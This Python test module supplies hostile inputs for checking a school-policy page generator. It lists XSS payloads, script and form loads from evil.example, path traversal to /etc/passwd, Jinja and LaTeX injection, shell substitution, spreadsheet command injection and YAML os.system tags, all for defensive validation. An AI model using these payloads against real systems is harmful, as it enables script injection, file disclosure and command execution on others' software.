"""Attempts to get something past the generator: texts, places to put them, and whole files."""

from __future__ import annotations

import json
import re

from worlds import ANY_WORDS
from worlds import FILES as TINY

from generator.errors import Finding, render

TEXTS = {
    # Scripts
    "script": "<script>alert(1)</script>",
    "script in capitals": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script with a slash": "<script/x>alert(1)</script>",
    "script over lines": "a <script\n>alert(1)</script\n> b",
    "script by entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "script twice escaped": "&amp;lt;script&amp;gt;alert(1)",
    "script in a code span": "`<script>alert(1)</script>`",
    "script behind a backslash": r"\<script>alert(1)\</script>",
    "end of a script": "</script><script>alert(1)</script>",
    "end of a title": "</title><script>alert(1)</script>",
    "end of a title by entities": "&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
    "end of a title, twice escaped": "&amp;lt;/title&amp;gt;&amp;lt;script&amp;gt;alert(1)",
    "end of a comment": "--><script>alert(1)</script><!--",
    "unfinished tag": "<img src=x onerror=alert(1) ",
    "full-width tag": "＜script＞alert(1)＜/script＞",
    "processing instruction": "<?php echo 1 ?>",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    # Handlers and elements that act
    "handler": '<p onclick="alert(1)">a</p>',
    "image handler": "<img src=x onerror=alert(1)>",
    "svg": "<svg onload=alert(1)>",
    "svg in math": "<math><mtext><svg><script>alert(1)</script></svg></mtext></math>",
    "frame": '<iframe src="https://evil.example/"></iframe>',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "base": '<base href="https://evil.example/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "form": '<form action="https://evil.example/"><input name=password></form>',
    "style": "<style>body { display: none }</style>",
    "style attribute": '<p style="position: fixed; inset: 0">a</p>',
    "end of an attribute": '" onmouseover="alert(1)" x="',
    "end of an attribute, single": "' onmouseover='alert(1)' x='",
    "end of the content": "</article></main></body>",
    "mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "template element": "<template><script>alert(1)</script></template>",
    "toggle": "<details open ontoggle=alert(1)>",
    "linked drawing": '<svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
    "doctype": "<!DOCTYPE html><p>a",
    # Links
    "script link": "[a](javascript:alert(1))",
    "script link in capitals": "[a](JaVaScRiPt:alert(1))",
    "script link by entity": "[a](javascript&colon;alert(1))",
    "script link by number": "[a](&#106;avascript:alert(1))",
    "script link by hex": "[a](&#x6A;avascript&#x3A;alert(1))",
    "script link with a tab": "[a](java\tscript:alert(1))",
    "script link in angles": "[a](<javascript:alert(1)>)",
    "script link with a title": '[a](javascript:alert(1) "title")',
    "script link with a quote": '[a](https://good.example/"onmouseover="alert(1))',
    "script link by reference": "[a][b]\n\n[b]: javascript:alert(1)",
    "script link by reference, angles": "[a]\n\n[a]: <javascript:alert(1)>",
    "script autolink": "<javascript:alert(1)>",
    "script link to vbscript": "[a](vbscript:msgbox(1))",
    "script link over lines": "[a](java\nscript:alert(1))",
    "script link by percent": "[a](javascript%3Aalert(1))",
    "script link with a wide colon": "[a](javascript：alert(1))",
    "script link in parentheses": "[a](https://good.example/(javascript:alert(1)))",
    "script link behind a backslash": r"[a](\javascript:alert(1))",
    "script in bare words": "javascript:alert(1)",
    "blob link": "[a](blob:https://evil.example/a)",
    "autolink with a quote": '<https://good.example/"onclick=alert(1)>',
    "autolink to mail": "<head@school.example>",
    "bare address": "https://evil.example/?a=b&c=d",
    "data link": "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "link with no scheme": "[a](//evil.example/)",
    "plain http link": "[a](http://evil.example/)",
    "file link": "[a](file:///etc/passwd)",
    "link up and out": "[a](../../../../etc/passwd)",
    "picture from elsewhere": "![a](https://evil.example/pixel.png)",
    "picture by reference": "![a][b]\n\n[b]: https://evil.example/pixel.png",
    "picture with a script": "![a](javascript:alert(1))",
    "link in a link": "[a [b](javascript:alert(1))](https://good.example/)",
    # Markdown
    "attribute list": "a {: onclick=alert(1) }",
    "attribute list on a heading": "# a {: onclick=alert(1) #id }",
    "attribute list on a link": "[a](https://good.example/){: onclick=alert(1) target=_top}",
    "html block marked": '<div markdown="1">\n*a*\n</div>',
    "table": "a | b\n--: | :--\n<b>1</b> | 2",
    "heading": "# A heading of one's own",
    "heading underlined": "A heading\n======",
    "front matter": "---\ntitle: mine\n---\n",
    "reference to nowhere": "[^1]\n\n[^1]: note",
    "very many stars": "*" * 3000,
    "very many brackets": "[" * 400,
    "very many quotes": "> " * 1500 + "a",
    "very many backticks": "`" * 2999 + "a",
    "stash marker": "\x02wzxhzdk:1\x03 and \x02klzzwxh:0001\x03",
    "fence": "```js\nalert(1)\n```",
    "file included": '--8<-- "/etc/passwd"',
    "contents": "[TOC]",
    "note": "!!! danger\n    Gone",
    "abbreviation": "*[a]: b",
    "link in double brackets": "[[../../../etc/passwd]]",
    "line that begins an entry": "- 1. + * a",
    "line that ends a front matter": "---",
    # Templates
    "jinja": "{{ 7 * 7 }}",
    "jinja that reads": "{{ config.__class__.__init__.__globals__ }}",
    "jinja statement": "{% include '/etc/passwd' %}",
    "jinja comment": "{# gone #}",
    "shell": "$(id) `id` ; id",
    "format": "%s%n %(a)s",
    "typst": 'See #read("/etc/passwd") #eval("1 + 1") #link("file:///etc/passwd")[a] $x$ @ref',
    "typst that includes": 'See #include "/etc/passwd" #sys.inputs = heading // comment',
    "latex": r"\input /etc/passwd \write18 id",
    "jinja line": "# for a in policy",
    "spreadsheet formula": "=HYPERLINK(\"https://evil.example\",\"a\")",
    "spreadsheet command": "@SUM(1+1)*cmd|' /C calc'!A0",
    # Characters
    "right to left override": "safe \u202egnp.exe",
    "isolate": "a \u2067 b \u2069 c",
    "override by entity": "safe &#x202e;gnp.exe",
    "override by decimal entity": "safe &#8238;gnp.exe",
    "zero width by entity": "pass&ZeroWidthSpace;word",
    "null by entity": "a&#0;b &#x1b;[31m",
    "zero width": "pass\u200bword",
    "null": "a\x00b",
    "escape sequence": "\x1b[31mred\x1b[0m",
    "line separator": "a\u2028<script>alert(1)</script>",
    "next line": "a\x85b",
    "surrogate": "\\ud800",
    "noncharacter": "a\ufffeb\uffff",
    "combining": "a" + "\u0301" * 400,
    "emoji family": "👨\u200d👩\u200d👧\u200d👦",
    "lower case that grows": "ŉİﬃ" * 50,
    "huge word": "a" * 5900,
    "json end": '"}]}</script>',
    "csv": 'a","b\n=1+1',
}  # fmt: skip
"""Texts that a hostile or careless author might write, each by a name."""

SCHOOL, RULES = "schools/hilltop/school.yml", "schools/hilltop/sections/10-rules.yml"
CHANNELS, PROVISIONS = "schools/hilltop/channels.yml", "schools/hilltop/provisions.yml"
WIZARD, LAW = "common/wizards/should-i-post.yml", "nations/england/law.yml"
TERMS, FORMS = "schools/hilltop/terms.yml", "schools/hilltop/forms.yml"
SCENARIOS, REMINDERS = "schools/hilltop/scenarios.yml", "common/reminders.yml"
HELPLINES = "nations/england/helplines.yml"

PLACES = {
    "the school's name": (SCHOOL, "Hilltop School"),
    "the welcome": (SCHOOL, "Talk to us."),
    "the document's title": (SCHOOL, "Our code"),
    "a statement of the document": (PROVISIONS, "Nobody names a child."),
    "a heading of the document": (PROVISIONS, "Front page"),
    "a rule's title": (RULES, "Never name a child"),
    "a rule's text": (RULES, "Leave out names of children."),
    "a better way": (RULES, "Tell the office."),
    "a section's title": (RULES, "Rules"),
    "a person's title": (CHANNELS, "The office"),
    "a person's text": (CHANNELS, "Ask here."),
    "a question": (WIZARD, "Whom does it name?"),
    "an answer": (WIZARD, "An adult"),
    "an answer in words": (WIZARD, "it names an adult"),
    "a verdict": (WIZARD, "There is a better way."),
    "a law's title": (LAW, "Speech Act 1998"),
    "what a law means": (LAW, "You may say what you think."),
    "a word": (TERMS, "Post"),
    "what a word means": (TERMS, "What you put online."),
    "a form's title": (FORMS, "Page log"),
    "a form's line": (FORMS, "What went wrong"),
    "a story's title": (SCENARIOS, "A name"),
    "a story's post": (SCENARIOS, "Look at Sam"),
    "a reminder's title": (REMINDERS, "Sports day"),
    "a reminder's text": (REMINDERS, "Cheer for all."),
    "a helpline's title": (HELPLINES, "Police"),
    "a helpline's text": (HELPLINES, "Ring at once."),
}  # fmt: skip
"""Where an author's words go: the file of the tiny world, and the words that are replaced."""

WORLD = (
    TINY
    | ANY_WORDS
    | {
        TERMS: "terms:\n  - {id: post, term: Post, meaning: What you put online.}\n",
        FORMS: "forms:\n  - id: log\n    title: Page log\n    layout: log\n    audience: staff\n"
        "    fields: [{label: What went wrong}]\n",
        SCENARIOS: "scenarios:\n  - id: a-name\n    title: A name\n    post: Look at Sam\n"
        "    where: The class chat\n    situation: {names: [child]}\n    verdict: stop\n",
        REMINDERS: "reminders:\n  - id: sports-day\n    title: Sports day\n    when: In June\n"
        "    text: Cheer for all.\n",
        RULES: ANY_WORDS[RULES].replace("    wizard:", "    newsletter: [sports-day]\n    wizard:"),
    }
)
"""The tiny world, with every kind of file that words go into."""

IDS = (
    "../../../etc/passwd", "..", "/etc/passwd", "a/../../b", "a%2f..%2fb", "a\\..\\b", "C:a",
    "index.html", "con", "a b", "a\nb", "A", "ａ", "n\u0430me", "na\u200bme", "name\u202e", "é",
    "-a", "a--b", "a-", "1a", "a" * 300, "", " ", ".", "a.b", "a#b", "a?b", "a&b", "<b>", '"', "'",
    "${a}", "{{a}}", "__proto__", "constructor!", "null\x00",
    "nul", "com1",
)  # fmt: skip
"""Ids that would be bad addresses: ways out of the folder, look-alikes, what a disk cannot hold."""

WEB = (
    "javascript:alert(1)", "data:text/html,a", "//evil.example", "http://evil.example", "ftp://a.b",
    "https://a.example/\" onclick=\"alert(1)", "https://a.example/<script>", "https:// a.example",
    "https://a.example/\njavascript:alert(1)", "file:///etc/passwd", "", "HTTPS://A.EXAMPLE",
    "https://a.example/'onclick='alert(1)", " javascript:alert(1)", "\x01javascript:alert(1)",
)  # fmt: skip
"""Web addresses that a contact may not have."""

EMAILS = (
    "javascript:alert(1)", "a@b.example\nBcc: c@d.example", "a b@c.example", "<a@b.example>",
    'a"onclick="b@c.example', "a@b", "@b.example", "a@b@c.example", "a@b.example?bcc=c@d.example",
)  # fmt: skip
"""What is no email address, or more than one."""

PHONES = ("javascript:1", "0;ext=1", "01632\n960001", "*#06#", "１２３", "+", "0" * 40)
"""What is no telephone number, or one that a phone would obey."""

SITES = (
    "https://a.example/../",
    "https://a.example/#a",
    "https://a.example/?a=b",
    "https://a",
    "https://a.example@evil.example/",
    "https://a.example/ b/",
    "javascript:alert(1)//",
)
"""What is no address of a site's home page."""

FILE_NAMES = (
    "<script>.yml", "10-a b.yml", "é.yml", "\u202egnp.yml", "'.yml", '"onclick="a.yml', "a\nb.yml",
    "\x1b[31m.yml", "{{ 7 }}.yml", "$(id).yml", "-rf.yml", "%2e%2e.yml", "&amp;.yml", "#a.yml",
    "a..yml", "\udcff.yml", "a" * 240 + ".yml",
)  # fmt: skip
"""Names of files that are read, listed and named in findings."""

FOLDER_NAMES = ("<script>", "javascript:alert(1)", "a b", "é", "\u202egnp", "A", "..a", "a\nb",
                "\x1b[31m", "{{ 7 }}", "con", '"onclick="a', "a" * 200)  # fmt: skip
"""Names of a school's folder, which become addresses."""

FILES = {
    "an anchor and its alias": b"a: &a [1]\nb: *a\n",
    "a bomb of aliases": b"a: &a [x,x]\nb: &b [*a,*a]\nc: &c [*b,*b]\nd: [*c,*c]\n",
    "an alias of itself": b"a: &a [*a]\n",
    "a merge": b"a: {b: 1}\nc:\n  <<: {d: 1}\n",
    "a Python tag": b"a: !!python/object/apply:os.system ['id']\n",
    "a Python name": b"a: !!python/name:os.system\n",
    "a tag of one's own": b"a: !include /etc/passwd\n",
    "a binary": b"a: !!binary aGVsbG8=\n",
    "a set": b"? a\n? b\n",
    "a complex key": b"? [a, b]\n: c\n",
    "a key twice": b"id: a\nid: b\n",
    "a directive": b"%YAML 1.1\n---\nid: a\n",
    "a directive of tags": b"%TAG ! tag:evil.example,2000:\n---\nid: !x a\n",
    "two documents": b"id: a\n---\nid: b\n",
    "deep lists": b"a: " + b"[" * 3000 + b"]" * 3000 + b"\n",
    "deep maps": b"".join(b" " * i + b"a:\n" for i in range(600)),
    "deep maps in a line": b"a: " + b"{a: " * 2000 + b"}" * 2000 + b"\n",
    "a wide list": b"a: [" + b"x," * 50_000 + b"]\n",
    "a huge value": b"title: " + b"a" * 2_000_000 + b"\n",
    "a huge number": b"max: " + b"9" * 5000 + b"\n",
    "infinity": b"a: .inf\nb: .nan\nc: 1e400\n",
    "an octal": b"a: 0o777\nb: 0777\n",
    "a time": b"a: 2001-12-14t21:59:43.10-05:00\nb: 12:30:45\n",
    "null everywhere": b"~: ~\n",
    "nothing": b"",
    "one null byte": b"\x00",
    "a null byte in a value": b"id: a\x00b\n",
    "not UTF-8": b"id: \xff\xfe\n",
    "UTF-16": "id: a\n".encode("utf-16"),
    "Latin-1": "id: café\n".encode("latin-1"),
    "an overlong form": b"id: \xc0\xaf\n",
    "a surrogate": b"id: \xed\xa0\x80\n",
    "a mark first": b"\xef\xbb\xbfid: a\n",
    "old line ends": b"id: a\rtitle: b\r",
    "a tab": b"id:\ta\n\ttitle: b\n",
    "a list for a map": b"- a\n- b\n",
    "a word": b"hello\n",
    "an escape": b'id: "\\x00\\e\\uD800"\n',
    "half a quote": b'id: "a\n',
    "half a bracket": b"id: [a\n",
    "a picture": b"\x89PNG\r\n\x1a\n\x00\x00",
    "a page": b"<!doctype html><script>alert(1)</script>\n",
    "a proto key": b"__proto__: {a: b}\nconstructor: c\n",
    "a key of markup": b'"<script>alert(1)</script>": a\n',
    "a key of escapes": b'"\\e[31m": a\n',
}  # fmt: skip
"""Whole files in place of a section's."""


def put(text: str, old: str, new: str) -> str:
    """Return a source file with one value, wherever it stands alone, in place of another."""
    quoted = json.dumps(new, ensure_ascii=False)
    changed, count = re.subn(rf"(?<=: ){re.escape(old)}(?=[,}}\n])", lambda _: quoted, text)
    assert count
    return changed


def check_places(findings: list[Finding]) -> None:
    """Fail unless each finding has a place, and a screen can show all of them."""
    assert all(f.mark.line > 0 and f.mark.column > 0 and f.mark.file.name for f in findings)
    assert all(line.isprintable() for line in render(findings).replace("\t", "").split("\n"))
